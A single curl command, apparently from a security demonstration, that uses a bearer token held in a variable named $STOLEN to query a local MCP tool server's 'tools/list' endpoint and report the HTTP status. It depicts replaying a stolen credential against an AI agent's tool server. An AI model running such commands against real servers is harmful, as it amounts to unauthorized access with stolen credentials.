curl -s -o /dev/null -w '%{http_code}\n' http://127.0.0.1:8765/mcp \
  -H "Authorization: Bearer $STOLEN" -H 'Accept: application/json, text/event-stream' \
  --json '{"jsonrpc": "2.0", "id": 1, "method": "tools/list"}'
